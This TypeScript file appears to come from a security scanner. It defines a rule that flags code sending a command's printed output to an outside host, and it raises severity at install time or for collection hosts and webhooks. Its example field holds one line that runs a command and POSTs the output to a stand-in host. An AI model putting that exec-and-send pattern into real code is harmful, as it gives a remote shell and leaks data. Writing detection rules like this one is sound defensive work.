import { isChatHook, isCollectionHost, isLocalHost, isPublicAddress } from "../hosts.ts";
import type { Rule } from "../rule.ts";
import { flowsOf, named, placeOf } from "../view.ts";

export const sendsCommandOutput: Rule = {
  id: "sends-command-output",
  title: "Sends what a command printed away",
  why:
    "Running a command and sending its output to a fixed address is how a remote shell answers. Tools " +
    "that report a version keep to one program and send it to their own service.",
  example:
    'exec(order, (error, stdout) => fetch("https://collect.invalid", { method: "POST", body: stdout }));',
  advice: "Look at which commands are run, and who runs the address.",
  severity: "high",
  confidence: "medium",
  look: (view) =>
    view.sends.flatMap((use) => {
      const outputs = flowsOf(use, "command-output");
      const hosts = view.hostsOf(use).filter((host) => !isLocalHost(host) && !host.startsWith("…"));
      const [host] = hosts;
      if (outputs.length === 0 || host === undefined) return [];
      const collects =
        view.addressesOf(use).some(isChatHook) ||
        hosts.some((each) => isCollectionHost(each) || isPublicAddress(each));
      const atInstall = view.isAtInstall(use.module);
      const message = `The output of ${named(outputs)} is sent to ${host}.`;
      // A command that a person types reports on their project to the service it is for.
      const usual = view.isReachedFrom(use.module, "bin") ? ("low" as const) : ("medium" as const);
      const severity = collects || atInstall ? ("high" as const) : usual;
      return [{ place: placeOf(use), message, severity }];
    }),
};
